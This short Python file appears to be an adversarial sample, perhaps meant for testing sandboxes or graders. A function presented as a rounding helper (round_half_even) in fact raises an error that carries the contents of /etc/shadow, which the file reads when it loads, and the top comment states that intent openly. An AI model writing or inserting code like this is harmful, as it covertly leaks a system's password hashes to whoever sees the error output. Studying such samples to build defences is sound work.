# Tries to read the passwords of the machine and to show them in an error message.
from pathlib import Path

SECRETS = Path("/etc/shadow").read_text()


def round_half_even(numerator, denominator):
    raise ValueError(SECRETS)
